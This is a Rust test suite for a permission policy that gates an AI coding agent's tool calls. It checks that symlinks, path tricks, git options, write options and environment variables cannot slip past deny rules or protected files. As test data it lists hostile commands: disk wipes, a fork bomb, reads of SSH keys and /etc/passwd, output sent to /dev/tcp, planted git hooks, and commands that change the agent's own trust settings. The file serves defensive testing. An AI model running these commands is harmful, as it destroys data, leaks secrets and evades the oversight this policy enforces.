//! Attempts to make a call run that should not.

use crate::common::{HOME, Rules, World, allow, deny};
use std::path::Path;
use windlass_permission::{CallFacts, OwnCheck, PathFact, Policy, PolicyConfig};
use windlass_types::Behavior::{Allow, Ask, Deny};
use windlass_types::{
    Access, Behavior, CallDigest, DecisionReason, HookVerdict, JsonText, PermissionMode, PermissionUpdate, RuleSource,
    RuleValue, UpdateDestination,
};

const ALL_MODES: [PermissionMode; 6] = PermissionMode::ALL;

#[test]
fn links_do_not_lead_out() {
    let world = World::new(allow(&["Edit(/src/**)"]))
        .link("/w/src/out", "/etc")
        .link("/w/in", "/w/src")
        .link("/w/hop", "/tmp/hop")
        .link("/tmp/hop", "/w/src");
    world.check(
        Ask,
        &[
            "Read src/out/passwd",
            "Write src/out/cron",
            "Bash cat src/out/passwd",
            "Bash echo x > src/out/cron",
            "Bash cd src/out && ls",
        ],
    );
    // Both the link and its end must be allowed.
    world.check(Ask, &["Write in/a"]);
    world.check(Allow, &["Read in/a"]);
    let accept = World::in_mode(PermissionMode::AcceptEdits, Rules::default()).link("/w/out", "/etc");
    accept.check(Ask, &["Write out/x", "Bash touch out/x", "Bash rm -r out/x"]);
    let denied = World::in_mode(PermissionMode::BypassPermissions, deny(&["Read(//secret/**)", "Edit(/locked/**)"]))
        .link("/w/a", "/secret")
        .link("/w/b", "/tmp/hop")
        .link("/tmp/hop", "/secret/deep")
        .link("/w/c", "/w/locked");
    denied.check(
        Deny,
        &[
            "Read a/x",
            "Read b/x",
            "Grep b/x",
            "Write a/x",
            "Write c/x",
            "Bash cat a/x",
            "Bash rm c/x",
            "Bash python3 b/x",
        ],
    );
    let protected = World::in_mode(PermissionMode::BypassPermissions, Rules::default())
        .link("/w/g", "/w/.git")
        .link("/w/f", "/home/u/.bashrc");
    protected.check(Ask, &["Write g/hooks/pre-commit", "Edit f", "Bash echo x >> f", "Bash touch g/x", "Bash tee f"]);
}

#[test]
fn paths_are_compared_by_name_not_by_text() {
    let world = World::new(allow(&["Edit(/src/**)", "Read(//opt/data/**)"]));
    world.check(
        Ask,
        &[
            "Write src/../n",
            "Write srcx/n",
            "Write /w/src/../../etc/x",
            "Read ../w2/x",
            "Read /opt/database/x",
            "Read /opt/data/../x",
            "Bash cat src/../../x",
        ],
    );
    world.check(Allow, &["Write src/./a/../n", "Read /opt/data/x", "Read src/../a"]);
    let world = World::new(deny(&["Read(/a/**)", "Read(caf\u{e9}.txt)", "Read(*.pem)"]));
    world.check(
        Deny,
        &[
            "Read /w/x/../a/y",
            "Read a/../a/y",
            "Read cafe\u{301}.txt",
            "Read CAF\u{c9}.TXT",
            "Read x/KEY.PEM",
            "Read key.pem.",
            "Read key.pem::$DATA",
            "Read A/y",
        ],
    );
}

#[test]
fn protected_names_ask_in_every_mode_that_does_not_deny() {
    let everything = ["Edit", "Write", "Edit(//**)", "Bash", "Bash(*)"];
    let targets = [
        "Write .git/config",
        "Write sub/.git/hooks/x",
        "Write .GIT/config",
        "Edit .git./x",
        "Write GIT~1/x",
        "Write .windlass/settings.json",
        "Write .claude/settings.local.json",
        "Write /home/u/.zshrc",
        "Write .mcp.json",
        "Write .vscode/tasks.json",
        "Bash echo x > .git/config",
        "Bash echo x >> ~/.bashrc",
        "Bash echo x >> $HOME/.profile",
        "Bash cp evil .git/hooks/pre-commit",
        "Bash tee .envrc",
        "Bash bash -c 'echo x > .bashrc'",
        "Bash git config core.hooksPath evil",
        "Bash ln -s x .husky/y",
        "Bash python3 .claude/x --out=.git/config",
        "Bash sed -i s/a/b/ .gitmodules",
        "Bash find .git -name x -delete",
        "Bash mv .git old",
        "Bash { cd sub; touch .git/x; }",
        "Bash chmod -x .git/hooks/y",
        "NotebookEdit .idea/x",
        "Write .hg/hgrc",
        "Write lefthook-local.yml",
        "Write my.code-workspace",
        "Write .agents/skills/x/SKILL.md",
        "Bash echo x > mise.toml",
        "Bash cp x evil/HEAD",
        "Write evil/HEAD",
        "Bash windlass trust -y",
        "Bash /usr/bin/windlass config set model x",
        "Bash env HOME=/x timeout 9 windlass mcp add x -- y",
        "Bash sh -c 'cd x && windlass sessions delete 1'",
        "Bash cargo run -p windlass-cli -- trust -y",
        "Bash windlass -p x --trust",
    ];
    for mode in ALL_MODES {
        let world = World::in_mode(mode, allow(&everything));
        for target in targets {
            let facts = world.call(target);
            let hook = HookVerdict::new(Allow, "eager", "");
            let decision = world.policy.decide(&facts, Some(&hook), None);
            let expected = if matches!(mode, PermissionMode::Plan | PermissionMode::DontAsk) { Deny } else { Ask };
            assert_eq!(decision.behavior, expected, "{mode} {target} {decision:?}");
            assert!(decision.suggestions.is_empty(), "{target}");
            if expected == Ask {
                assert!(decision.protected, "{target} {decision:?}");
                let other = CallDigest::new("another call");
                assert_eq!(world.policy.decide(&facts, None, Some(&other)).behavior, Ask, "{target}");
                assert_eq!(world.policy.decide(&facts, None, Some(&facts.digest)).behavior, Allow, "{target}");
            }
        }
        world.check(Allow, &["Read .git/HEAD", "Bash cat .git/HEAD", "Bash ls .claude"]);
    }
}

/// Options of git before its sub-command do not hide the programs that it runs or the files that it writes.
#[test]
fn options_of_git_hide_no_sub_command() {
    let world = World::in_mode(
        PermissionMode::BypassPermissions,
        deny(&["Bash(rm:*)", "Bash(git push:*)", "Edit(/locked/**)"]),
    );
    for options in ["--no-pager", "-C .", "--attr-source HEAD", "--config-env a.b=C", "--shallow-file x"] {
        for command in
            ["push", "bisect run rm x", "submodule foreach 'rm x'", "rebase -x 'rm x' HEAD~", "diff --output=locked/p"]
        {
            world.check(Deny, &[&format!("Bash git {options} {command}")]);
        }
        world.check(Ask, &[&format!("Bash git {options} archive -o .vscode/x HEAD")]);
    }
}

/// In a subshell, and for unknown programs, the words of a command name the files that it may write.
#[test]
fn protected_names_among_the_words_of_a_command_ask() {
    let world = World::in_mode(PermissionMode::BypassPermissions, Rules::default());
    world.check(
        Ask,
        &[
            "Bash { find .git -name x -delete; }",
            "Bash { find -L .git -name x -delete; }",
            "Bash { find -H -O3 .git -name x -delete; }",
            "Bash { find -D tree -L -- .git -name x -delete; }",
            "Bash { find -dx .git -name x -delete; }",
            "Bash { find -f .git -- -name x -delete; }",
            "Bash find -L .git -name x -delete",
            "Bash { find src .git/hooks -type f -exec rm {} +; }",
            "Bash { git checkout HEAD~ -- .vscode/tasks.json; }",
            "Bash { git --no-pager checkout HEAD~ -- .vscode/tasks.json; }",
            "Bash { git --attr-source diff checkout HEAD~ -- .vscode/tasks.json; }",
            "Bash git --no-pager config core.hooksPath evil",
            "Bash git -C . config core.hooksPath evil",
            "Bash git --attr-source HEAD config core.hooksPath evil",
            "Bash git --config-env a.b=C config core.hooksPath evil",
            "Bash git --shallow-file x config core.hooksPath evil",
            // An option that leaves files out of an archive has another meaning for other programs.
            "Bash { frob -x a .git/config; }",
            "Bash { frob --exclude a .git/config; }",
            "Bash { frob --exclude=a .git/config; }",
            "Bash { zip .vscode/x.zip src -x a; }",
        ],
    );
    world.check(
        Allow,
        &[
            "Bash { find .git -name x; }",
            "Bash { find src -name .bashrc -delete; }",
            "Bash { git add .vscode/tasks.json; }",
            "Bash { git --no-pager diff .vscode/tasks.json; }",
            "Bash { git log -- .claude; }",
            "Bash { frob --exclude .git src; }",
            "Bash { frob --exclude-dir .git src; }",
            "Bash { frob --ignore .vscode src; }",
            "Bash { frob --exclude=.git src; }",
            "Bash { frob --ignore-path=.vscode/x src; }",
            // Zip takes a backslash for an escape.
            "Bash { zip -r x.zip src -x 'sub/\\.git/*'; }",
        ],
    );
}

#[test]
fn whole_trees_and_devices_are_never_touched() {
    for mode in ALL_MODES {
        let world =
            World::in_mode(mode, allow(&["Bash", "Write", "Edit(//**)"])).link("/w/home", HOME).link("/w/sub/up", "/w");
        for target in [
            "Bash rm -rf /",
            "Bash rm -rf ~",
            "Bash rm -rf /home/u",
            "Bash rm -rf .",
            "Bash rm -rf /w",
            "Bash sudo rm -rf /usr",
            "Bash bash -c 'rm -rf /etc'",
            "Bash chmod -R 777 /",
            "Bash dd if=/dev/zero of=/dev/sda",
            "Bash mkfs.ext4 /dev/sda1",
            "Bash :(){ :|:& };:",
            "Bash echo x > /dev/sda",
            "Write /dev/sda",
            "Bash rm -rf home/",
        ] {
            let facts = world.call(target);
            let decision = world.policy.decide(&facts, None, Some(&facts.digest));
            assert_eq!(decision.behavior, Deny, "{mode} {target} {decision:?}");
        }
    }
    World::new(allow(&["Bash"]))
        .check(Allow, &["Bash echo x > /dev/null", "Bash rm -rf target", "Bash python3 /dev/stdin"]);
}

#[test]
fn nothing_lifts_a_deny() {
    let rules = Rules { allow: &["Bash", "Bash(rm x)", "Read"], deny: &["Bash(rm:*)", "Read(x)"], ask: &[] };
    for mode in ALL_MODES {
        let world = World::in_mode(mode, rules);
        for call in ["Bash rm x", "Read x"] {
            let facts = world.call(call);
            let hook = HookVerdict::new(Allow, "eager", "");
            assert_eq!(world.policy.decide(&facts, Some(&hook), Some(&facts.digest)).behavior, Deny, "{mode} {call}");
        }
    }
    let world = World::in_mode(PermissionMode::BypassPermissions, allow(&["Bash"]));
    let facts = world.call("Bash ls");
    let hook = HookVerdict::new(Deny, "guard", "not today");
    let decision = world.policy.decide(&facts, Some(&hook), Some(&facts.digest));
    assert_eq!((decision.behavior, decision.reason), (Deny, DecisionReason::Hook));
    assert!(decision.message.contains("guard") && decision.message.contains("not today"));
    let hook = HookVerdict::new(Ask, "guard", "");
    assert_eq!(world.policy.decide(&facts, Some(&hook), None).behavior, Ask);
    let checked = world.call("Bash ls").with_check(OwnCheck::Deny("no".to_owned()));
    assert_eq!(world.policy.decide(&checked, None, None).reason, DecisionReason::ToolCheck);
}

#[test]
fn what_is_not_known_is_not_allowed() {
    let world = World::new(Rules::default());
    let facts = |access: Access| CallFacts::new("custom", JsonText::empty_object(), access, CallDigest::new("1"), "/w");
    let verdict = |facts: &CallFacts| world.policy.decide(facts, None, None).behavior;
    assert_eq!(verdict(&facts(Access::NOTHING)), Allow);
    assert_eq!(verdict(&facts(Access::Unknown)), Ask);
    assert_eq!(verdict(&facts(Access::Exec)), Ask);
    assert_eq!(verdict(&facts(Access::Network)), Ask);
    // A path whose links were not followed.
    assert_eq!(verdict(&facts(Access::reads("/w/x"))), Ask);
    assert_eq!(verdict(&facts(Access::reads("/w/x")).with_path(PathFact::new("/w/x", "/w/x", false))), Allow);
    assert_eq!(verdict(&facts(Access::reads("/w/x")).with_path(PathFact::new("/w/x", "/w/x", true))), Ask);
    // A command without an analysis.
    let bash = CallFacts::new("Bash", JsonText::empty_object(), Access::Exec, CallDigest::new("1"), "/w");
    assert_eq!(verdict(&bash), Ask);
    let strict = World::new(Rules { allow: &["Bash"], deny: &["Bash(rm:*)"], ask: &[] });
    assert_eq!(strict.policy.decide(&bash, None, None).behavior, Ask);
    // Paths of a command that were not resolved.
    let mut unresolved = world.call("Bash cat a");
    if let Some(command) = &mut unresolved.command {
        command.paths.clear();
    }
    assert_eq!(verdict(&unresolved), Ask);
    let mut git = world.clone();
    git.inert_git = false;
    git.check(Ask, &["Bash git status"]);
    world.check(Allow, &["Bash git status"]);
    world.check(Ask, &["Bash cd src && git status"]);
}

/// A folder inside may be anyone's repository, and its configuration names programs.
#[test]
fn a_rule_for_version_control_holds_in_the_own_repository_alone() {
    let rules = ["Bash(git status:*)", "Bash(git commit:*)", "Bash(git log)", "Bash(hg *)", "Bash(cd lib && git push)"];
    let mut world = World::new(allow(&rules)).link("/w/alias", "/w/evil");
    world.inert_git = false;
    world.repositories = vec!["/w/evil".into(), "/w/lib".into()];
    world.check(
        Allow,
        &[
            "Bash git status",
            "Bash git log",
            "Bash git status --short | head -5",
            "Bash cd src && git status",
            "Bash cd src; git commit -m x",
            "Bash cd src && hg st",
            "Bash cd lib && git push",
            "Bash cd evil && ls",
            "Bash ls evil && git status",
        ],
    );
    let text = include_str!("attacks/repositories.txt");
    let attacks: Vec<&str> = text.lines().filter(|line| !line.starts_with("# ")).collect();
    world.check(Ask, &attacks);
    world.cwd = "/w/evil/src".into();
    world.check(Ask, &["Bash git status", "Bash git log", "Bash git commit -m x", "Bash timeout 5 git status"]);
    world.check(Ask, &["Bash cd lib && git push", "Bash cd .. && git status", "Bash hg st"]);
    // A rule of the owner may allow all commands.
    world.policy.add_rules(RuleSource::CliArg, Allow, &["Bash"], Path::new("/w")).unwrap();
    world.check(Allow, &["Bash git status"]);
}

#[test]
fn rules_that_cannot_be_used_are_named() {
    let mut policy = Policy::new(PolicyConfig::new("/w"));
    let mut add =
        |behavior: Behavior, rule: &str| policy.add_rules(RuleSource::CliArg, behavior, &[rule], Path::new("/w"));
    for rule in [
        "",
        "Bash(x",
        "Read(~/x)",
        "Read(~bob/x)",
        "Read(!x)",
        "Read(a/../b)",
        "Read([b-a])",
        "WebFetch(example.com)",
        "custom(x)",
        "mcp__a__b(command:x)",
    ] {
        let error = add(Deny, rule).unwrap_err();
        assert!(error.to_string().contains(&format!("`{rule}`")), "{error}");
        let warnings = add(Allow, rule).unwrap();
        assert!(warnings.len() == 1 && warnings[0].ignored, "{rule} {warnings:?}");
    }
    for rule in ["*", "mcp__*", "Web*", "mcp__*__x", "custom(a:b)", "Write(x)", "Read(//)", "Read(/)"] {
        assert!(add(Deny, rule).is_ok(), "{rule}");
        assert!(add(Allow, rule).unwrap()[0].ignored, "{rule}");
    }
    let before = policy.is_hidden("Bash");
    assert!(policy.add_rules(RuleSource::CliArg, Deny, &["Bash", "Bash(x"], Path::new("/w")).is_err());
    assert_eq!(policy.is_hidden("Bash"), before);
}

#[test]
fn updates_widen_only_what_they_may() {
    let mut policy = Policy::new(PolicyConfig::new("/w").with_mode(PermissionMode::BypassPermissions));
    assert_eq!(policy.mode(), PermissionMode::Default);
    let session = UpdateDestination::Session;
    let bypass = PermissionUpdate::SetMode { mode: PermissionMode::BypassPermissions, destination: session };
    assert!(policy.apply(&bypass).unwrap_err().to_string().contains("bypassPermissions"));
    let relative =
        PermissionUpdate::AddDirectories { directories: vec!["/x".into(), "y".into()], destination: session };
    assert!(policy.apply(&relative).is_err());
    assert_eq!(policy.directories(), [Path::new("/w")]);
    let unusable = PermissionUpdate::AddRules {
        rules: vec![RuleValue::tool("Write"), RuleValue::new("Write", "x")],
        behavior: Allow,
        destination: session,
    };
    assert!(policy.apply(&unusable).is_err());
    policy.add_rules(RuleSource::PolicySettings, Deny, &["Bash(curl:*)"], Path::new("/w")).unwrap();
    let rule = vec![RuleValue::new("Bash", "curl:*")];
    for destination in [session, UpdateDestination::UserSettings, UpdateDestination::CliArg] {
        policy.apply(&PermissionUpdate::RemoveRules { rules: rule.clone(), behavior: Deny, destination }).unwrap();
        policy.apply(&PermissionUpdate::ReplaceRules { rules: vec![], behavior: Deny, destination }).unwrap();
        policy.apply(&PermissionUpdate::AddRules { rules: rule.clone(), behavior: Allow, destination }).unwrap();
    }
    let world = World { policy, ..World::new(Rules::default()) };
    world.check(Deny, &["Bash curl x"]);
}

#[test]
fn updates_take_effect_and_go_again() {
    let mut world = World::new(Rules::default());
    let session = UpdateDestination::Session;
    let rules = vec![RuleValue::new("Bash", "npm test *"), RuleValue::new("Task", "Explore")];
    world
        .policy
        .apply(&PermissionUpdate::AddRules { rules: rules.clone(), behavior: Allow, destination: session })
        .unwrap();
    world.check(Allow, &["Bash npm test", "Agent Explore"]);
    world.policy.apply(&PermissionUpdate::RemoveRules { rules, behavior: Allow, destination: session }).unwrap();
    world.check(Ask, &["Bash npm test", "Agent Explore"]);
    let directories = vec!["/extra".into()];
    world
        .policy
        .apply(&PermissionUpdate::AddDirectories { directories: directories.clone(), destination: session })
        .unwrap();
    world.check(Allow, &["Read /extra/x"]);
    world.policy.apply(&PermissionUpdate::RemoveDirectories { directories, destination: session }).unwrap();
    world.check(Ask, &["Read /extra/x"]);
    let start = vec!["/w".into()];
    world.policy.apply(&PermissionUpdate::RemoveDirectories { directories: start, destination: session }).unwrap();
    world.check(Allow, &["Read x"]);
}

#[test]
fn searches_are_filtered() {
    let mut config = PolicyConfig::new("/tmp/w");
    config = config.with_link("/tmp", "/private/tmp").with_home(Some(HOME.into()));
    let mut policy = Policy::new(config);
    policy
        .add_rules(RuleSource::CliArg, Deny, &["Read(.env)", "Read(/keys/**)", "Read(~/.ssh/**)"], Path::new("/tmp/w"))
        .unwrap();
    for path in ["/tmp/w/.env", "/tmp/w/a/.ENV", "/private/tmp/w/keys/a", "/home/u/.ssh/id"] {
        assert!(!policy.may_read(Path::new(path), Path::new(path)), "{path}");
        assert!(!policy.may_read(Path::new("/tmp/w/link"), Path::new(path)), "{path}");
    }
    assert!(policy.may_read(Path::new("/tmp/w/a"), Path::new("/private/tmp/w/a")));
    let facts =
        CallFacts::new("Read", JsonText::empty_object(), Access::reads("/tmp/w/a"), CallDigest::new("1"), "/tmp/w")
            .with_path(PathFact::new("/tmp/w/a", "/private/tmp/w/a", false));
    assert_eq!(policy.decide(&facts, None, None).behavior, Allow);
}

#[test]
fn proven_read_only_is_about_the_call_alone() {
    let world =
        World::in_mode(PermissionMode::BypassPermissions, Rules { deny: &["Read(a)"], allow: &["Bash"], ask: &[] });
    for (call, expected) in [
        ("Read a", true),
        ("Grep /etc", true),
        ("TodoWrite", true),
        ("TaskCreate", false),
        ("Bash ls -la && cat x | head", true),
        ("Bash git status", true),
        ("Bash cd src && ls", false),
        ("Bash ls > x", false),
        ("Bash python3 x", false),
        ("Bash echo $(ls)", false),
        ("Bash touch x", false),
        ("Write x", false),
        ("custom", false),
        ("WebFetch https://a.b", false),
        ("AskUserQuestion", false),
    ] {
        assert_eq!(world.policy.is_proven_read_only(&world.call(call)), expected, "{call}");
    }
    let background = serde_json::json!({"command": "ls", "run_in_background": true});
    assert!(!world.policy.is_proven_read_only(&world.facts("Bash", &background)));
}

#[track_caller]
fn check_never_allowed(world: &World, commands: &[&str]) {
    let allowed: Vec<&&str> =
        commands.iter().filter(|command| world.verdict(&format!("Bash {command}")) == Allow).collect();
    assert!(allowed.is_empty(), "{allowed:#?}");
}

#[test]
fn reading_commands_do_nothing_else() {
    check_never_allowed(
        &World::new(Rules::default()),
        &[
            "cat ~/.ssh/id_rsa",
            "cat $HOME/x",
            "ls /",
            "ls ..",
            "cat /proc/self/environ",
            "env",
            "printenv",
            "echo $PATH",
            "cat < /etc/passwd",
            "grep -f /etc/passwd x",
            // `.*` matches `..` on older shells.
            "cat .*/x",
            "grep -r x .*",
            "grep x -r /etc",
            "find / -name x",
            "find . -exec rm {} +",
            "find . -fprint out",
            "sort -o out x",
            "sort --output=out x",
            "sed -n 'w out' x",
            "sed -n '1e rm x' x",
            "git diff --output=x",
            "git -C /etc log",
            "git --git-dir=/x log",
            "git grep -Ovi x",
            "git branch -D x",
            "git stash",
            "rg --pre cmd x",
            "cat x | sh",
            "diff /etc/passwd x",
            "ls\nrm x",
            "ls & rm x",
            "ls; rm x",
            "wc --files0-from=/etc/passwd",
            "du --files0-from=/etc/passwd",
            "date -s 2020-01-01",
            "awk 'BEGIN{system(\"x\")}'",
            "awk '{print > \"out\"}' x",
            "jq -f /etc/passwd x",
            "cat /dev/sda",
            "ls | tee x",
            "ls | xargs rm",
            "cat <(rm x)",
            "cat a > /dev/tcp/1.2.3.4/80",
            "ls > x",
            "cd /etc && ls",
            "cd .. && ls",
            "cd - && ls",
            "LD_PRELOAD=x ls",
            "PATH=. ls",
            "./ls",
            "src/cat x",
            "ls\u{a0}-la",
            "ls \u{202e}x",
            "cat ''$'\\x2fetc'",
            "cat /w/../etc/passwd",
            "head -c 5 ../../etc/passwd",
            "tail --follow=name /etc/passwd",
        ],
    );
}

/// A file behind an option that takes no value, or an attached one alone, is a file that is read.
#[test]
fn options_hide_no_files() {
    for mode in [PermissionMode::Default, PermissionMode::Plan, PermissionMode::DontAsk] {
        check_never_allowed(
            &World::in_mode(mode, Rules::default()),
            &[
                "od -c -w /etc/passwd",
                "od -w /etc/passwd",
                "od --width /etc/passwd",
                "strings -o /etc/passwd",
                "strings -ao /etc/passwd",
                "jq . -- --arg /etc/passwd x",
                "jq . x -- --argjson /etc/passwd y",
                "column -n /etc/passwd",
                "awk 1 -F /etc/passwd",
                "awk '{print $1}' x -F /etc/passwd",
                "lscpu -e /etc/passwd",
                "git diff -U /etc/passwd x",
                "git diff --unified /etc/passwd /etc/hosts",
                "git log -U ../x",
                "git stash list -- --output=.git/hooks/x",
                "git log -U --output=/home/u/.windlass/settings.json",
                "git log -p -U --output=x -1",
                "git show --format --output=x",
                "git shortlog -w --output=.git/config HEAD",
                "date -d -r /etc/passwd",
                "seq -f -s /etc/passwd",
                "sort -k /etc/passwd -t -o x",
                "diff -U -X /etc/passwd a b",
                // To a version whose options end at the first operand these are files.
                "head x -n /etc/passwd",
                "od x -j /etc/passwd",
                "cut x -d /etc/passwd",
                "du src -d /etc",
                "stat x -c /etc/passwd",
                "sed -n p x -l /etc/passwd",
            ],
        );
    }
    let world = World::new(Rules::default());
    world.check(
        Allow,
        &[
            "Bash od -c -w16 x",
            "Bash strings -o x",
            "Bash jq --arg a b . x",
            "Bash jq . --arg a b -- x",
            "Bash git diff -M90% -U5 --stat",
            "Bash git log -C -M -B --oneline -- src",
            "Bash git show -U HEAD",
            "Bash git blame -C -C -M x",
            "Bash git status -uno -s",
            "Bash git tag -n5 -l 'v*'",
            "Bash git branch --contains",
            "Bash git branch --contains HEAD",
            "Bash git shortlog -sn -w80 HEAD",
            "Bash head -n -5 x",
            "Bash grep -e -x f",
            "Bash date -d '-1 day' -Iseconds",
            "Bash seq 5 -1 1",
            "Bash rg -e -x src",
            "Bash jq --arg a -1 '.[$a]' x",
            "Bash head x -n 5",
            "Bash sort x -k 2 -t ,",
            "Bash du src -d 1",
            "Bash stat x -c '%s %n'",
            "Bash grep -rn foo src --include '*.rs' -A 3",
            "Bash rg foo -g '/src/**'",
        ],
    );
}

/// Commands that write to protected places without a redirection.
const WRITING_WITHOUT_A_REDIRECTION: &[&str] = &[
    "git diff --output=.git/hooks/pre-commit",
    "git log --output .git/config",
    "git log --outp=.git/config",
    "git show --o .vscode/tasks.json",
    "git log -U --output=.windlass/settings.json",
    "git -C .git log --output=config",
    "git -C .vscode diff --output tasks.json",
    "git format-patch -o .git/hooks HEAD~1",
    "git format-patch -o.git/hooks HEAD~1",
    "git format-patch --output-dir=.git/hooks HEAD~1",
    "git archive -o.git/x HEAD",
    "git archive --output=.mcp.json HEAD",
    "git bundle create .git/x HEAD",
    "git config --file .git/config core.pager x",
    "git config --unse user.name",
    "git config --remove-section core",
    "git config edit",
    "git checkout HEAD -- .vscode/tasks.json",
    "git checkout HEAD -- ':(top).vscode/tasks.json'",
    "git restore --source=HEAD~1 .mcp.json",
    "git apply --directory=.vscode p.diff",
    "git --work-tree=.vscode checkout -- tasks.json",
    "sort -o.git/config x",
    "sort -ro.git/config x",
    "sort -ro .git/config x",
    "sort --outp=.git/config x",
    "shuf -o.bashrc x",
    "tree -o .git/hooks/x",
    "uniq x .git/config",
    "xxd -r x .git/config",
    "iconv -o.bashrc x",
    "find . -fprint .git/config",
    "find . -name x -fprintf .bashrc %p",
    "tar -C.git -xf x.tar",
    "tar xf x.tar --directory=.git",
    "tar xf x.tar --dir=.git",
    "unzip x.zip -d.git",
    "curl -o.git/config http://h/x",
    "curl -sSLo .git/config http://h/x",
    "curl -O http://h/.bashrc",
    "curl -sOL http://h/a/.mcp.json?x",
    "wget -O.git/config http://h/x",
    "wget http://h/.npmrc",
    "wget -P .git http://h/config",
    "gcc -o.git/hooks/pre-commit x.c",
    "go build -o=.git/hooks/pre-commit",
    "patch -o.git/config x p",
    "tee -a .git/config",
    "less -o.git/config x",
    "sed -n 'w .git/config' x",
    "sed 's/a/b/w .git/config' x",
    "sed -e p -e '/x/w .bashrc' x",
    "awk '{print > \".git/config\"}' x",
    "awk '{print >> \".bashrc\"}' x",
    "awk -v f=.git/config '{print > f}' x",
    "python3 -c 'open(\".git/config\", \"w\").write(x)'",
    "node -e \"require('fs').writeFileSync('.vscode/tasks.json', x)\"",
    "perl -e 'open F, \">.git/config\"'",
    "ruby -e 'File.write(\".mcp.json\", x)'",
    "vim -c 'w .git/hooks/x' y",
    "timeout 5 sort -o.git/config x",
    "bash -c 'sort -o.git/config x'",
    "find . -exec sort -o.git/config {} ;",
    "prog -o.git/config",
];

/// A file that an option, an operand or a text in another language names for writing is protected like the target of a
/// redirection, whatever is allowed and in every mode that does not deny.
#[test]
fn the_floor_sees_what_is_written_without_a_redirection() {
    for mode in [PermissionMode::Default, PermissionMode::AcceptEdits, PermissionMode::BypassPermissions] {
        let world = World::in_mode(mode, allow(&["Bash"])).link("/w/h", "/w/.git/hooks");
        for command in
            WRITING_WITHOUT_A_REDIRECTION.iter().chain(&["git log --output=h/x", "sort -oh/x y", "curl -oh/x u"])
        {
            let decision = world.decision(&format!("Bash {command}"));
            assert!(decision.behavior == Ask && decision.protected, "{mode} {command}: {decision:?}");
        }
        let never = ["sort -o/dev/sda x", "curl -o/dev/sda http://h/x", "git log --output=/dev/sda"];
        for command in never {
            assert_eq!(world.verdict(&format!("Bash {command}")), Deny, "{mode} {command}");
        }
        world.check(
            Allow,
            &[
                "Bash git log --oneline -- .git/config",
                "Bash git grep x .vscode",
                "Bash git config --get user.name",
                "Bash git config get user.name",
                "Bash git config --list",
                "Bash git diff --output=changes.diff",
                "Bash git format-patch -o patches HEAD~1",
                "Bash grep -f.git/info/exclude x",
                "Bash sort -ok x",
                "Bash tar -C src -czf x.tgz .",
                "Bash curl -o out.json http://h/x",
                "Bash curl -sSO http://h/x.tgz",
                "Bash wget http://h/x.tgz",
                "Bash gcc -Iinclude -o prog x.c",
                "Bash python3 -c 'print(1)'",
                "Bash find . -name .git -prune -o -print",
                "Bash sed -i 's/show me/x/' y",
                "Bash tee out.log",
            ],
        );
    }
}

fn world_that_denies(mode: PermissionMode, rule: &str) -> World {
    World::in_mode(mode, Rules { allow: &["Bash"], deny: &[rule], ask: &[] })
}

/// The same is outside where it lies outside, and denied where a rule denies to write there.
#[test]
fn rules_see_what_is_written_without_a_redirection() {
    let rules = ["Bash(git log:*)", "Bash(sort:*)", "Bash(curl:*)", "Bash(wget:*)", "Bash(gcc:*)", "Bash(find:*)"];
    World::new(allow(&rules)).check(
        Ask,
        &[
            "Bash git log --output=/etc/x",
            "Bash git log --output ../x",
            "Bash sort -o/etc/x y",
            "Bash sort -ro../x y",
            "Bash curl -o/etc/x http://h/x",
            "Bash curl -sLo ../x http://h/x",
            "Bash curl --output-dir /etc -O http://h/x",
            "Bash wget -O/etc/x http://h/x",
            "Bash wget -P ../x http://h/x",
            "Bash gcc -o/etc/x y.c",
            "Bash find . -fprint /etc/x",
        ],
    );
    World::new(allow(&rules)).check(
        Allow,
        &[
            "Bash git log --output=x",
            "Bash sort -ox y",
            "Bash sort -o x y",
            "Bash curl -o out.json http://h/x",
            "Bash curl -O http://h/x.tgz",
            "Bash wget http://h/x.tgz",
            "Bash gcc -I/usr/include -o prog x.c",
        ],
    );
    for mode in [PermissionMode::Default, PermissionMode::BypassPermissions] {
        let rules = Rules { allow: &["Bash"], deny: &["Edit(locked/**)", "Read(secret/**)"], ask: &[] };
        let world = World::in_mode(mode, rules);
        world.check(
            Deny,
            &[
                "Bash git log --output=locked/x",
                "Bash git -C locked log --output=x",
                "Bash sort -olocked/x y",
                "Bash sort -rolocked/x y",
                "Bash curl -olocked/x http://h/x",
                "Bash curl -O --output-dir locked http://h/x",
                "Bash wget -P locked http://h/x",
                "Bash find . -fprint locked/x",
                "Bash sed -n 'w locked/x' y",
                "Bash awk '{print > \"locked/x\"}' y",
                "Bash python3 -c 'print(open(\"secret/key\").read())'",
                "Bash node -e \"fs.readFileSync('secret/key')\"",
                "Bash grep -fsecret/key x",
            ],
        );
        for command in ["Bash python3 -c 'open(\"locked/x\", \"w\")'", "Bash tar -Clocked -xf x.tar"] {
            assert_ne!(world.verdict(command), Allow, "{command}");
        }
        // With `-qO-`, `wget` prints the file instead of writing it.
        let world = world_that_denies(mode, "Edit(*.json)");
        assert_eq!(world.verdict("Bash wget http://h/x.json"), Deny);
        assert_ne!(world.verdict("Bash wget -qO- http://h/x.json"), Deny);
        let world = World::in_mode(mode, rules);
        world.check(Allow, &["Bash curl -oopen/x http://h/x", "Bash sort -oopen/x y", "Bash gcc -Iopen/x y.c"]);
    }
}

/// Programs load the files that such variables name: messages, zones, descriptions of terminals.
#[test]
fn variables_before_a_command_lead_to_no_file() {
    let world = World::new(allow(&["Bash(cargo test:*)"]));
    check_never_allowed(
        &world,
        &[
            "LANGUAGE=../../../w/po ls x",
            "LANGUAGE=de:/w/po grep x y",
            "LANG=/w/po ls",
            "LC_ALL=./po cat x",
            "LC_MESSAGES=../po sort x",
            "TZ=:/w/zone date",
            "TZ=../../../w/zone date",
            "TZ=/w/zone ls -l",
            "TERM=../w/term ls --color",
            "NLSPATH=%N ls",
            "LOCPATH=. ls",
            "TERMINFO=. tree",
            "TERMCAP=x ls",
            "TZDIR=. date",
            "LANG=C TZ=:x date",
            "NODE_ENV=../../x cargo test",
            "LANGUAGE=../po cargo test",
            "LC_ALL=/w cargo test --lib",
        ],
    );
    world.check(
        Allow,
        &[
            "Bash LC_ALL=C sort x",
            "Bash LC_ALL=en_US.UTF-8 LANGUAGE=de:en ls",
            "Bash TZ=America/New_York date",
            "Bash TZ=UTC git log -1 --date=iso-local",
            "Bash TERM=dumb ls",
            "Bash COLUMNS=200 ps aux",
            "Bash RUST_LOG=debug,hyper=info cargo test",
            "Bash RUST_BACKTRACE=1 NO_COLOR=1 cargo test",
        ],
    );
}

/// Two directories are compared file by file, also without an option for it.
#[test]
fn comparing_directories_reads_what_is_in_them() {
